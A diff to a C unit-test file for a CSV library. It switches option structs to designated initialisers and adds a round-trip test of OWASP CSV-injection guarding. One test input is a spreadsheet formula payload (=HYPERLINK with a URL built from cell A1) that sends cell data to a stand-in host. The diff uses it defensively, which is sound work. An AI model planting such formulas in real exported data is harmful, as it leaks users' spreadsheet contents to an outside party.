@@ -123,7 +123,7 @@ static void test_windows_1252(void **state)
 static void test_utf8_then_bad_byte(void **state)
 {
 	static const char s[] = "id;svar\n1;bl\xC3\xA5\n2;ok\n3;d\xE5rlig\n";
-	struct csv_opts o = { 0, CSV_ENC_UTF8, 0, 0 };
+	struct csv_opts o = { .encoding = CSV_ENC_UTF8 };
 	struct kerr e;
 	struct csv_row row;
 	FILE *fp;
@@ -151,7 +151,7 @@ static void test_utf8_then_bad_byte(void **state)
 static void test_ragged_rows_reported_and_skippable(void **state)
 {
 	static const char s[] = "a;b;c\n1;2;3\n1;2\n1;2;3;4\n7;8;9\n";
-	struct csv_opts o = { 0, CSV_ENC_AUTO, 0, 1 };
+	struct csv_opts o = { .encoding = CSV_ENC_AUTO, .allow_ragged = 1 };
 	struct kerr e;
 	struct csv_row row;
 	FILE *fp;
@@ -181,7 +181,7 @@ static void test_limits_and_broken_files(void **state)
 	static const char big[] = "a;b\n1;0123456789abcdef\n";
 	static const char open_quote[] = "a;b\n1;\"never closed\n2;x\n";
 	static const char utf16[] = "\xFF\xFEi\0d\0";
-	struct csv_opts o = { 0, CSV_ENC_AUTO, 8, 0 };
+	struct csv_opts o = { .encoding = CSV_ENC_AUTO, .max_field = 8 };
 	struct kerr e;
 	struct csv_row row;
 	FILE *fp;
@@ -337,6 +337,79 @@ static void test_write_field_roundtrip(void **state)
 	free(text);
 }
 
+/* A CSV cell as a spreadsheet sees it: surrounding quotes removed, doubled
+ * quotes single. */
+static void unquote(const char *s, char *out)
+{
+	size_t n = strlen(s), k;
+
+	if (s[0] != '"') {
+		strcpy(out, s);
+		return;
+	}
+	for (k = 1; k + 1 < n; k++) {
+		*out++ = s[k];
+		if (s[k] == '"')
+			k++;
+	}
+	*out = '\0';
+}
+
+/* OWASP CSV injection: formulas get an apostrophe, numbers do not, and
+ * reading with unguard_formulas gives back exactly what was written. */
+static void test_formula_guard_roundtrip(void **state)
+{
+	static const char *vals[] = {
+		"=HYPERLINK(\"http://x/?\"&A1,\"klik\")", "+45 20 30 40 50", "-ikke noget",
+		"@SUM(A1)", "\tTAB", "\rCR", "-5", "+3.2", "1,5e3", "-", "'=1", "''@x", "'-5",
+		"'plain", "=", "-2+3", "text =1" };
+	static const char *want[] = {
+		"'=HYPERLINK(\"http://x/?\"&A1,\"klik\")", "'+45 20 30 40 50", "'-ikke noget",
+		"'@SUM(A1)", "'\tTAB", "'\rCR", "-5", "+3.2", "1,5e3", "'-", "''=1", "'''@x", "'-5",
+		"'plain", "'=", "'-2+3", "text =1" };
+	const size_t n = sizeof(vals) / sizeof(*vals);
+	struct csv_opts o = { .encoding = CSV_ENC_AUTO, .unguard_formulas = 1 };
+	struct buf b = BUF_INIT, one = BUF_INIT;
+	struct csv_reader *r;
+	struct csv_row row;
+	struct kerr e;
+	char cell[128];
+	FILE *fp;
+	size_t i;
+	int rc;
+
+	(void)state;
+	for (i = 0; i < n; i++) {
+		buf_reset(&one);
+		assert_int_equal(csv_add_field(&one, vals[i], strlen(vals[i]), ','), 0);
+		unquote(one.data, cell);
+		assert_string_equal(cell, want[i]);
+	}
+	for (i = 0; i < n; i++)
+		assert_int_equal(buf_addf(&b, "%sh%zu", i ? "," : "", i), 0);
+	buf_addch(&b, '\n');
+	for (i = 0; i < n; i++) {
+		if (i)
+			buf_addch(&b, ',');
+		assert_int_equal(csv_add_field(&b, vals[i], strlen(vals[i]), ','), 0);
+	}
+	buf_addch(&b, '\n');
+	r = open_text(b.data, b.len, &o, &fp, &rc, &e);
+	assert_int_equal(rc, 0);
+	assert_int_equal(csv_next(r, &row, &e), CSV_ROW);
+	assert_int_equal(row.n, n);
+	for (i = 0; i < n; i++) {
+		/* a CR inside a quoted field reads as LF (csv.h) */
+		const char *v = vals[i][0] == '\r' ? "\nCR" : vals[i];
+
+		assert_int_equal(row.len[i], strlen(v));
+		assert_string_equal(row.field[i], v);
+	}
+	done(r, fp);
+	buf_release(&b);
+	buf_release(&one);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -350,6 +423,7 @@ int main(void)
 		cmocka_unit_test(test_header_find),
 		cmocka_unit_test(test_block_boundaries),
 		cmocka_unit_test(test_write_field_roundtrip),
+		cmocka_unit_test(test_formula_guard_roundtrip),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
